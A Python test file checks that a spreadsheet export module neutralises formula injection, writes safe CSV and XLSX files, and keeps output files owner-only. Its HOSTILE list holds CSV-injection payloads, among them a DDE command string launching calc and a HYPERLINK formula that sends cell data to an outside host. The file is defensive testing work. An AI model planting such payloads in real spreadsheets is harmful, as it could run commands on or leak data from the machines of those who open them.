"""Spreadsheet safety: no cell is ever a formula, text survives after the quote, owner-only files."""

from __future__ import annotations

import csv
import datetime as dt
import os
import stat
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from pipelines.core.spreadsheets import neutralise_cell, private_dir, restore_cell, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",  # fullwidth equals sign
]


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _frame() -> pl.DataFrame:
    n = len(HOSTILE)
    return pl.DataFrame(
        {
            "job_ref": [f"J{i}" for i in range(n)],
            "description": HOSTILE,
            "cost_gbp": [-12.5] + [float(i) for i in range(1, n)],
            "on": [dt.date(2025, 3, 9)] * n,
            "categories": [["door_damage", "lock_change"]] + [[] for _ in range(n - 1)],
        }
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("\uff20SUM(1)", "'\uff20SUM(1)"),
        ("renew lock = £40", "renew lock = £40"),  # a trigger later in the text is harmless
        ("", ""),
        (None, None),
        (-3, -3),  # numbers stay numbers
        (-2.5, -2.5),
        (True, True),
    ],
)
def test_neutralise_cell(value: object, expected: object) -> None:
    assert neutralise_cell(value) == expected


def test_restore_cell_undoes_neutralise_cell() -> None:
    for value in [*HOSTILE, "plain", "'quoted by the tenant", "", None, -3]:
        assert restore_cell(neutralise_cell(value)) == value


def test_csv_keeps_hostile_text_as_quoted_text(tmp_path: Path) -> None:
    path = write_csv(_frame(), tmp_path / "list.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark for Excel
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["description"] for r in rows] == ["'" + h for h in HOSTILE]
    for row in rows:
        text = [row["job_ref"], row["description"], row["categories"]]
        assert all(not cell or cell[0] not in "=+-@\t\r\n\uff1d" for cell in text)
    # numbers, dates and lists as people expect them; the negative number is not quoted
    assert rows[0]["cost_gbp"] == "-12.5"
    assert rows[0]["on"] == "2025-03-09"
    assert rows[0]["categories"] == "door_damage; lock_change"
    assert rows[1]["categories"] == ""


def test_csv_pound_sign_round_trips(tmp_path: Path) -> None:
    path = write_csv(pl.DataFrame({"reason": ["recharge £120.50"]}), tmp_path / "r.csv")
    assert path.read_text(encoding="utf-8-sig").splitlines() == ["reason", "recharge £120.50"]


def test_xlsx_has_no_formulas_and_keeps_text(tmp_path: Path) -> None:
    path = write_xlsx(
        {"Repairs admin": _frame(), "Evidence": pl.DataFrame({"summary": ["=1+2", "fine"]})},
        tmp_path / "list.xlsx",
        wrap_columns=("description",),
        column_widths={"job_ref": 14},
        notes="About this list\n=not a formula",
    )
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Repairs admin", "Evidence", "Notes"]
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)
                assert not (isinstance(cell.value, str) and cell.value.startswith("="))
    ws = wb["Repairs admin"]
    header = [c.value for c in ws[1]]
    assert header == ["job_ref", "description", "cost_gbp", "on", "categories"]
    # xlsx stores a carriage return as the escape _x000D_ (Excel shows it as the character itself)
    written = [ws.cell(row=r, column=2).value.replace("_x000D_", "\r") for r in range(2, 2 + len(HOSTILE))]
    assert written == ["'" + h for h in HOSTILE]
    assert ws.cell(row=2, column=3).value == -12.5  # numbers stay numbers
    assert ws.cell(row=2, column=4).value == dt.datetime(2025, 3, 9)
    assert ws.cell(row=2, column=5).value == "door_damage; lock_change"
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:E{1 + len(HOSTILE)}"
    assert ws.column_dimensions["A"].width == pytest.approx(14, abs=1)
    assert ws.column_dimensions["B"].width == pytest.approx(60, abs=1)
    assert ws.cell(row=2, column=2).alignment.wrap_text
    assert [c.value for c in wb["Evidence"]["A"]] == ["summary", "'=1+2", "fine"]
    assert [c.value for c in wb["Notes"]["A"]] == ["About this list", "'=not a formula"]


def test_xlsx_rejects_bad_sheet_names(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="sheet name"):
        write_xlsx({"a/b": pl.DataFrame({"x": [1]})}, tmp_path / "x.xlsx")
    with pytest.raises(ValueError, match="sheet name"):
        write_xlsx({"x" * 32: pl.DataFrame({"x": [1]})}, tmp_path / "x.xlsx")
    assert not (tmp_path / "x.xlsx").exists()


def test_files_are_owner_only_from_creation(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    old = os.umask(0o000)  # even a permissive umask must not widen the files
    try:
        folder = private_dir(tmp_path / "out" / "2025-03-09" / "tst")
        csv_path = write_csv(_frame(), folder / "list.csv")
        xlsx_path = write_xlsx({"List": _frame()}, folder / "list.xlsx")
    finally:
        os.umask(old)
    assert _mode(csv_path) == 0o600
    assert _mode(xlsx_path) == 0o600
    for created in (folder, folder.parent, folder.parent.parent):
        assert _mode(created) == 0o700
    assert sorted(p.name for p in folder.iterdir()) == ["list.csv", "list.xlsx"]  # no temporary files left


def test_rewriting_a_readable_file_makes_it_owner_only(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("old")
    path.chmod(0o644)
    write_csv(pl.DataFrame({"a": [1]}), path)
    assert _mode(path) == 0o600
    assert path.read_text(encoding="utf-8-sig").splitlines() == ["a", "1"]


def test_private_dir_tightens_an_existing_folder(tmp_path: Path) -> None:
    folder = tmp_path / "shared"
    folder.mkdir(mode=0o755)
    folder.chmod(0o775)
    assert private_dir(folder) == folder
    assert _mode(folder) == 0o700


def test_write_csv_does_not_follow_a_planted_symlink(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere.txt"
    target.write_text("keep")
    link = tmp_path / "list.csv"
    link.symlink_to(target)
    write_csv(pl.DataFrame({"a": ["x"]}), link)
    assert target.read_text() == "keep"  # the link itself was replaced, its target untouched
    assert not link.is_symlink()
    assert _mode(link) == 0o600
